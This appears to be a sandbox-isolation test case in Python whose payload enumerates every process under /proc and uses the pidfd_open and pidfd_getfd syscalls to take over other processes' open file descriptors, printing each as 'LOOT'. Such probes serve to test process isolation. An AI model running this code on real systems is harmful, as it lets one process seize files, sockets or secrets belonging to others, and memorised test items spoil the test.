"""Fetch the open descriptors of other processes by pidfd_getfd and through /proc.

class: read-course
expect: graded
"""

EXTRA = [
    """import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
pids = {os.getppid(), 1, *(int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*/status"))}
for pid in pids - {os.getpid(), 0}:
    handle = libc.syscall(434, pid, 0)
    if handle < 0:
        continue
    for number in range(64):
        got = libc.syscall(438, handle, number, 0)
        if got >= 0:
            print("LOOT:", pid, number, os.readlink(f"/proc/self/fd/{got}"))
            os.close(got)
    os.close(handle)"""
]
